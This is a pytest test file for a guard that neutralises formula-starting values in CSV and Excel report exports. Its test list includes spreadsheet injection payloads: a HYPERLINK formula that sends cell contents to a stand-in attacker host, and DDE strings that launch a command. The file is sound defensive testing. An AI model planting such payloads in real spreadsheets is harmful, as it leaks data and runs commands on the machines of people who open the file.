"""CSV and Excel cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import pandas as pd
import pytest

from grading.report.formula_guard import as_text, text_only

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_become_text(value):
    """Does every formula-starting string get the spreadsheet's text apostrophe?"""
    assert as_text(value) == "'" + value


def test_ordinary_values_are_unchanged():
    """Are plain text, numbers (negative too) and empty strings left alone?"""
    for value in ("crisis_cue_missed", "a - b", "", -2.5, 3, None):
        assert as_text(value) == value


def test_a_table_is_safe_in_cells_headers_and_index():
    """Are cells, column names and index labels all neutralised, numbers kept as numbers?"""
    frame = pd.DataFrame({"kind": [HOSTILE[0], "late"], "=x": [-1.0, 2.0]}, index=["@a", "b"])
    safe = text_only(frame)
    assert list(safe["kind"]) == ["'" + HOSTILE[0], "late"]
    assert list(safe.columns) == ["kind", "'=x"]
    assert list(safe.index) == ["'@a", "b"]
    assert list(safe["'=x"]) == [-1.0, 2.0]
    assert frame.loc["@a", "kind"] == HOSTILE[0]  # the original is not changed
